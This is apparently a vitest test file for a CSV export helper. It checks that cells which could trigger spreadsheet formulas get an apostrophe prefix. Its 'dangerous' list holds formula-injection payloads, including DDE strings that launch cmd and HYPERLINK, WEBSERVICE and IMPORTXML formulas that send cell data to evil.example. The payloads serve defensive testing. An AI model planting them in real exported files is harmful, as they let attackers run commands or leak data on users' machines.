import { expect, test } from "vitest";
import { csvLines } from "#shared/text/csv.ts";
import { csv } from "./csv.ts";

/** A minimal RFC 4180 parser: quoted cells, doubled quotes, CRLF line ends. */
const parsed = (text: string) => {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error("A quoted cell does not end.");
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else for (; at < text.length && !/[,\r\n"]/.test(text[at] ?? ""); at++) cell += text[at];
    row.push(cell);
    if (text[at] === ",") at++;
    else if (text.startsWith("\r\n", at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line's end at ${at}.`);
  }
  return rows;
};

const exported = async (cells: string[]) => {
  const response = csv("x.csv", ["cell"], [cells.map((cell) => ({ cell }))]);
  return parsed(await response.text())
    .slice(1)
    .map(([cell]) => cell);
};

const dangerous = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '=IMAGE("https://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=SUM(1,2)",
  "==1",
  "=",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+491701234567",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@handle",
  "\t=1+1",
  "\tplain",
  "\r=1+1",
  "\rplain",
  "\n=1+1",
  "\r\n=1+1",
  "\0=1+1",
  "\0plain",
  " =1+1",
  "   =1+1",
  " \t=1+1",
  " \tplain",
  " \0=1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  '"=1+1"',
  '""=1+1',
  '" =1+1',
  "'=1+1",
  "' +1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  " ＝1+1",
  "=1+1\r\n=2+2",
  '=1+1","=2+2',
  "=1+1,=2+2",
  "-5",
  "+",
];

test.each(dangerous)("%j is exported as text behind an apostrophe, in one cell", async (cell) => {
  const [first, second, third] = await exported(["before", cell, "after"]);
  expect([first, third]).toEqual(["before", "after"]);
  expect(second).toBe(`'${cell}`);
});

const harmless = [
  "plain",
  "",
  "two words",
  "a,b",
  'say "hi"',
  '"quoted"',
  "line\r\nbreak",
  "line\nbreak",
  "a=b",
  "a+b@c.example",
  "x - y",
  "1",
  "0041",
  "ünïcode 😀",
  "https://a.example/?q=1&b=-2",
  "tab\tinside",
  "it's",
  '",=1+1',
];

test.each(harmless)("%j is exported unchanged", async (cell) => {
  expect(await exported([cell])).toEqual([cell]);
});

test("writes numbers unquoted, dates as ISO and null as empty", () => {
  expect(csvLines([[-5, 0, 1.5, new Date("2026-11-21T09:00:00Z"), null]])).toBe(
    "-5,0,1.5,2026-11-21T09:00:00.000Z,\r\n",
  );
});

test("writes a header line, then one line per row in the same column order", async () => {
  const response = csv("Leads.csv", ["name", "score"], [[{ score: 1, name: "Ada, B." }]]);
  expect(parsed(await response.text())).toEqual([
    ["name", "score"],
    ["Ada, B.", "1"],
  ]);
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": 'attachment; filename="Leads.csv"',
    "cache-control": "no-store",
  });
});
